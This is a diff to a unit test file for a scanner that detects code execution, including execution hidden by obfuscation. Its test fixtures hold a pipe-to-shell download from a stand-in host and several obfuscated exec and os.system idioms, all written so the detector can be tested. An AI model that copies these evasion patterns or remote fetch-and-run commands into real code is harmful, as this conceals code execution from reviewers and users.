@@ -8,7 +8,7 @@ from scanners.flow.acts import read_acts
 from scanners.syntax import read_syntax
 from tests.unit.test_secrets import look
 
-RUN = "runs-unreviewed-code"
+RUN, HIDE = "runs-unreviewed-code", "hides-what-it-runs"
 CURL = "curl https://x.example/a | sh"
 HIDDEN = [
     "run = exec\nrun(fetch())", "[exec][0](fetch())", "{'a': exec}['a'](fetch())", "(lambda f, x: f(x))(exec, fetch())",
@@ -48,12 +48,18 @@ PLAIN = [
 
 @pytest.mark.parametrize("source", HIDDEN)
 def test_what_runs_code_is_told_however_it_is_reached(source):
-    assert RUN in {kind for kind, _, _ in read_acts(read_syntax(source.encode()))}
+    assert {RUN, HIDE} & {kind for kind, _, _ in read_acts(read_syntax(source.encode()))}
+
+
+def test_a_name_put_together_weighs_more_than_code_that_is_run_in_the_open():
+    hidden = read_acts(read_syntax(b"import os\nn = 'sys' + 'tem'\ngetattr(os, n)('id')\n"))
+    assert HIDE in {kind for kind, _, _ in hidden}
+    assert HIDE not in {kind for kind, _, _ in read_acts(read_syntax(b"df['x'].apply(eval)\nexec(code)\n"))}
 
 
 @pytest.mark.parametrize("source", PLAIN)
 def test_what_only_looks_like_it_is_not(source):
-    assert RUN not in {kind for kind, _, _ in read_acts(read_syntax(source.encode()))}
+    assert not {RUN, HIDE} & {kind for kind, _, _ in read_acts(read_syntax(source.encode()))}
 
 
 @pytest.mark.parametrize(
